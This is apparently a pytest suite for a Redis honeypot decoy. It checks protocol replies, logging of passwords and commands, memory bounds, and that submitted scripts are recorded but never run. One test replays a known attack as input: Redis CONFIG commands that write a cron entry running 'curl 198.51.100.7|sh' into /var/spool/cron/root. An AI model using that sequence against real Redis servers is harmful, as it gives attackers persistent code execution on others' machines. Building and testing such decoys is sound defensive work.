"""Redis, byte by byte: requests in, replies out, what is recorded, what is bounded."""

import asyncio

import pytest

from chaffinch.decoys.redis.glob import compile_glob, matches
from chaffinch.decoys.redis.protocol import REQUEST_BYTES, ProtocolError, RequestReader, split_inline
from chaffinch.decoys.redis.store import STORE_BYTES, CommandError, Stores
from chaffinch.decoys.redis.store import Store as RedisStore
from chaffinch.events import Command, Credential, Probe, SessionClosed, Upload
from tests.decoys.harness import Recorded, decoy, persona


def ask(*sent: bytes, address: str = "127.77.3.9", chunk: int = 0, **options: str) -> tuple[list[bytes], Recorded]:
    """What one connection after the other gets, and what was recorded."""

    async def run() -> tuple[list[bytes], Recorded]:
        async with decoy("redis", persona("redis", address=address, **options)) as running:
            got = [await running.talk(data, wait=0.15, chunk=chunk) for data in sent]
            await running.settled()
            return got, running.recorded

    return asyncio.run(run())


def multibulk(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%b\r\n" % (len(word), word) for word in words)


@pytest.mark.parametrize(
    ("sent", "reply"),
    [
        (b"PING\r\n", b"+PONG\r\n"),
        (b"FOO bar baz\r\n", b"-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz' \r\n"),
        (b"COMMAND COUNT\r\n", b":240\r\n"),
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b""),
        (b'set "a b\r\n', b"-ERR Protocol error: unbalanced quotes in request\r\n"),
        (b"*1\r\nx\r\n", b"-ERR Protocol error: expected '$', got 'x'\r\n"),
        (b"*x\r\n", b"-ERR Protocol error: invalid multibulk length\r\n"),
        (b"QUIT\r\nPING\r\n", b"+OK\r\n"),
        (multibulk(b"SET", b"k", b"v") + multibulk(b"get", b"k"), b"+OK\r\n$1\r\nv\r\n"),
        (b"multi\r\nset a 1\r\nincr a\r\nexec\r\n", b"+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n:2\r\n"),
        (b"subscribe c\r\nping\r\n", b"*3\r\n$9\r\nsubscribe\r\n$1\r\nc\r\n:1\r\n*2\r\n$4\r\npong\r\n$0\r\n\r\n"),
        (b"hello 3\r\nget nokey\r\n", None),
    ],
)
@pytest.mark.parametrize("chunk", [0, 1])
def test_requests_are_answered_as_redis_does(sent: bytes, reply: bytes | None, chunk: int) -> None:
    got, _ = ask(sent, keyspace="empty", address="127.77.40.1", chunk=chunk)
    if reply is None:
        assert got[0].startswith(b"%7\r\n")
        assert got[0].endswith(b"_\r\n")
    else:
        assert got[0] == reply


def test_a_second_connection_finds_what_the_first_wrote() -> None:
    got, _ = ask(b"set mark 7\r\n", b"get mark\r\n", address="127.77.40.2")
    assert got == [b"+OK\r\n", b"$1\r\n7\r\n"]


def test_the_way_to_a_cron_job_looks_open_and_is_kept() -> None:
    job = b"\n\n*/1 * * * * curl 198.51.100.7|sh\n\n"
    sent = multibulk(b"config", b"set", b"dir", b"/var/spool/cron") + multibulk(
        b"config", b"set", b"dbfilename", b"root"
    )
    got, recorded = ask(sent + multibulk(b"set", b"x", job) + b"save\r\n", address="127.77.40.3")
    assert got[0] == b"+OK\r\n" * 4
    assert [upload.name for upload in recorded.of(Upload)] == ["/var/spool/cron/root"]
    assert list(recorded.files.values()) == [job]
    assert next(command.line for command in recorded.of(Command)) == "config set dir /var/spool/cron"


def test_passwords_are_recorded_and_checked_where_one_is_set() -> None:
    sent = b"get a\r\nauth wrong\r\nauth default s3cret\r\nget a\r\n"
    got, recorded = ask(sent, requirepass="s3cret", keyspace="empty", address="127.77.40.4")
    wrong = b"-WRONGPASS invalid username-password pair or user is disabled.\r\n"
    assert got[0] == b"-NOAUTH Authentication required.\r\n" + wrong + b"+OK\r\n$-1\r\n"
    assert [(login.secret, login.accepted) for login in recorded.of(Credential)] == [("wrong", False), ("s3cret", True)]


def test_without_a_password_a_login_is_an_error_and_is_recorded() -> None:
    got, recorded = ask(b"AUTH foobared\r\n")
    assert got[0].startswith(b"-ERR AUTH <password> called without any password configured")
    assert recorded.of(Credential)[0].secret == "foobared"


def test_before_the_password_requests_are_small() -> None:
    got, _ = ask(b"*11\r\n", b"*1\r\n$16385\r\n", requirepass="x", address="127.77.40.5")
    assert got == [
        b"-ERR Protocol error: unauthenticated multibulk length\r\n",
        b"-ERR Protocol error: unauthenticated bulk length\r\n",
    ]


def test_info_is_this_hosts_own_and_its_clock_goes_on() -> None:
    first, _ = ask(b"info\r\n", b"info\r\n")
    other, _ = ask(b"info\r\n", address="127.77.3.10")

    def field(reply: bytes, name: bytes) -> bytes:
        return next(line for line in reply.split(b"\r\n") if line.startswith(name + b":"))

    for name in (b"run_id", b"process_id", b"total_system_memory"):
        assert field(first[0], name) == field(first[1], name)
    assert field(first[0], b"run_id") != field(other[0], b"run_id")
    assert field(first[0], b"redis_version") == b"redis_version:7.0.15"
    assert field(first[0], b"config_file") == b"config_file:/etc/redis/redis.conf"


def test_a_host_has_keys_that_stay() -> None:
    got, _ = ask(b"keys *\r\n", b"keys *\r\n", b"dbsize\r\n", address="127.77.40.6")
    assert got[0] == got[1]
    assert int(got[2][1:]) >= 8


def test_too_much_is_refused_like_a_full_server() -> None:
    value = b"x" * (600 << 10)
    got, _ = ask(multibulk(b"set", b"a", value) + multibulk(b"set", b"b", value), address="127.77.40.7")
    assert got[0] == b"+OK\r\n-OOM command not allowed when used memory > 'maxmemory'.\r\n"


def test_a_value_beyond_the_held_request_is_read_past() -> None:
    got, _ = ask(multibulk(b"set", b"a", b"x" * (REQUEST_BYTES + 9)) + b"ping\r\n", address="127.77.40.8")
    assert got[0] == b"-ERR wrong number of arguments for 'set' command\r\n+PONG\r\n" or got[0].endswith(b"+PONG\r\n")


def test_shutdown_closes_without_an_answer() -> None:
    got, recorded = ask(b"shutdown nosave\r\n", b"ping\r\n")
    assert got == [b"", b"+PONG\r\n"]
    assert recorded.of(SessionClosed)[0].reason == "service"


def test_a_browser_is_a_probe() -> None:
    _, recorded = ask(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n")
    assert recorded.of(Probe)[0].note == "http"


def test_scripts_are_recorded_and_never_run() -> None:
    got, recorded = ask(b"eval \"return 1\" 0\r\neval \"return redis.call('get','k')\" 0\r\n", keyspace="empty")
    assert got[0] == b":1\r\n$-1\r\n"
    assert "redis.call" in recorded.of(Command)[1].line


def test_inline_quotes() -> None:
    assert split_inline(rb'a "\x41\n\"" ' + b"'b\\'c'") == [b"a", b'A\n"', b"b'c"]
    assert split_inline(b'a "b"c') is None
    assert split_inline(b"  ") == []


def test_the_reader_gives_up_on_a_long_line() -> None:
    reader = RequestReader()
    reader.feed(b"A" * 70000)
    with pytest.raises(ProtocolError, match="too big inline request"):
        reader.next()


def test_globs() -> None:
    assert matches(compile_glob(b"a*[0-9]?"), b"abc7x")
    assert not matches(compile_glob(b"a[^b]"), b"ab")
    assert not matches(compile_glob(b"*a" * 200 + b"b"), b"a" * 5000)


def test_stores_are_bounded_together_and_forgotten() -> None:
    now = [0.0]
    stores = Stores(total_bytes=100_000, ttl=10.0, clock=lambda: now[0])
    for number in range(20):
        store = RedisStore(("127.77.0.1", 6379, f"192.0.2.{number}"))
        store.put(0, b"k", b"x" * 20_000)
        stores.keep(store)
    assert stores.held <= 100_000
    assert stores.find(("127.77.0.1", 6379, "192.0.2.19")) is not None
    now[0] = 11.0
    assert stores.find(("127.77.0.1", 6379, "192.0.2.19")) is None
    assert stores.held == 0
    with pytest.raises(CommandError):
        RedisStore(("", 0, "")).put(0, b"k", b"x" * STORE_BYTES)
